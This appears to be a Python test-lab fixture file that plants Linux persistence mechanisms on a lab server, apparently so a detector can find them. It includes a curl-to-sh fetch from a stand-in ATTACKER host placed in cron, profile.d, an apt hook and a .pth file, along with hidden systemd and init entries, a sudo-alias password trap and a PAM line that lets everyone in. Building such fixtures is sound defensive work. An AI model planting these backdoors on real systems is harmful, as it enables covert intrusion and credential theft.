"""Everything that starts an intruder's program by itself."""

from tests.lab.network import ATTACKER
from tests.lab.planted.tools import append, plant, program, text
from tests.lab.server import Server

FETCH = f"curl -fsS http://{ATTACKER}/x | sh"
UNIT = "[Service]\nExecStart={path}\n[Install]\nWantedBy=multi-user.target\n"
INIT = """#!/bin/sh
### BEGIN INIT INFO
# Provides: {name}
# Default-Start: 2 3 4 5
### END INIT INFO
{path} &
"""


@plant()
def cron_file_that_fetches(server: Server) -> str:
    return text(server, "/etc/cron.d/update-check", f"11 4 * * * root {FETCH}\n")


@plant()
def cron_line_of_a_user(server: Server) -> str:
    path = program(server, "/dev/shm/.cache/job")
    append(server, "/var/spool/cron/crontabs/deploy", f"7 4 * * * {path}\n")
    return path


@plant()
def daily_script(server: Server) -> str:
    path = program(server, "/var/tmp/.daily/run")
    return text(server, "/etc/cron.daily/zz-clean", f"#!/bin/sh\n{path}\n", 0o755)


@plant()
def service_from_a_temporary_folder(server: Server) -> str:
    path = program(server, "/var/tmp/svc")
    text(server, "/etc/systemd/system/net-helper.service", UNIT.format(path=path))
    return path


@plant()
def timer_of_a_hidden_program(server: Server) -> str:
    path = program(server, "/usr/share/.t/tick")
    text(server, "/etc/systemd/system/tick.service", f"[Service]\nExecStart={path}\n")
    timer = "[Timer]\nOnCalendar=daily\n[Install]\nWantedBy=timers.target\n"
    text(server, "/etc/systemd/system/tick.timer", timer)
    server.shell("systemctl -q enable tick.timer")
    return path


@plant()
def drop_in_of_a_packaged_unit(server: Server) -> str:
    path = program(server, "/var/tmp/.d/pre")
    drop_in = "/etc/systemd/system/cron.service.d/10-limits.conf"
    text(server, drop_in, f"[Service]\nExecStartPre=-{path}\n")
    return path


@plant()
def unit_of_a_user(server: Server) -> str:
    path = program(server, "/home/bob/.local/.u/agent")
    folder = "/home/bob/.config/systemd/user"
    text(server, f"{folder}/agent.service", UNIT.format(path=path).replace("multi-user", "default"))
    wants = f"{folder}/default.target.wants"
    server.shell(
        f"mkdir -p {wants}; ln -s ../agent.service {wants}; mkdir -p /var/lib/systemd/linger"
    )
    server.shell("touch /var/lib/systemd/linger/bob; chown -R bob: /home/bob")
    return path


@plant()
def generator(server: Server) -> str:
    path = "/etc/systemd/system-generators/net-setup"
    return text(server, path, f"#!/bin/sh\n{program(server, '/var/tmp/.g/gen')} &\n", 0o755)


@plant()
def at_job(server: Server) -> str:
    path = program(server, "/var/tmp/.at/later")
    server.shell(f"echo {path} | at -q b now + 3 days 2>/dev/null")
    return path


@plant()
def rc_local(server: Server) -> str:
    path = program(server, "/var/tmp/.rc/boot")
    text(server, "/etc/rc.local", f"#!/bin/sh\n{path} &\nexit 0\n", 0o755)
    return path


@plant()
def init_script(server: Server) -> str:
    path = program(server, "/var/tmp/.init/d")
    script = text(server, "/etc/init.d/netlog", INIT.format(name="netlog", path=path), 0o755)
    server.shell("ln -s ../init.d/netlog /etc/rc3.d/S99netlog")
    return script


@plant()
def profile_script(server: Server) -> str:
    return text(server, "/etc/profile.d/zz-lang.sh", f"({FETCH}) >/dev/null 2>&1 &\n")


@plant()
def profile_line(server: Server) -> str:
    path = program(server, "/var/tmp/.p/login")
    append(server, "/root/.bashrc", f"{path} >/dev/null 2>&1 &\n")
    return path


@plant()
def trap_for_passwords(server: Server) -> str:
    text(server, "/home/alice/.local/.s", '#!/bin/sh\nexec /usr/bin/sudo "$@"\n', 0o755)
    return append(server, "/home/alice/.bashrc", "alias sudo='/home/alice/.local/.s'\n")


@plant()
def message_of_the_day(server: Server) -> str:
    path = program(server, "/var/tmp/.m/motd")
    return text(server, "/etc/update-motd.d/99-news", f"#!/bin/sh\n{path} &\n", 0o755)


@plant()
def ssh_rc(server: Server) -> str:
    path = program(server, "/var/tmp/.r/rc")
    return text(server, "/root/.ssh/rc", f"{path} &\n")


@plant()
def module_line_that_runs(server: Server) -> str:
    path = program(server, "/var/tmp/.k/probe")
    text(server, "/etc/modprobe.d/net.conf", f"install dummy9 {path}\n")
    return path


@plant()
def udev_rule_of_a_hidden_program(server: Server) -> str:
    path = program(server, "/usr/lib/udev/.net/up")
    return text(server, "/etc/udev/rules.d/99-net.rules", f'ACTION=="add", RUN+="{path}"\n')


@plant()
def hook_of_apt_that_fetches(server: Server) -> str:
    hook = f'DPkg::Post-Invoke {{"{FETCH}";}};\n'
    return text(server, "/etc/apt/apt.conf.d/99update-check", hook)


@plant()
def script_of_a_network_interface(server: Server) -> str:
    path = program(server, "/var/tmp/.up/run")
    return text(server, "/etc/network/if-up.d/zz-mtu", f"#!/bin/sh\n{path}\n", 0o755)


@plant()
def mail_alias_that_runs_a_program(server: Server) -> str:
    path = program(server, "/dev/shm/.m/in")
    return text(server, "/etc/aliases", f'postmaster: root\nrobot: "|{path}"\n')


@plant()
def line_of_pam_that_lets_everybody_in(server: Server) -> str:
    append(server, "/etc/pam.d/sshd", "auth sufficient pam_permit.so\n")
    return "/etc/pam.d/sshd"


@plant()
def start_up_code_of_python(server: Server) -> str:
    folder = "/usr/local/lib/python3.11/dist-packages"
    code = f"import os; os.system('{FETCH} &')\n"
    return text(server, f"{folder}/zz_fix.pth", code)
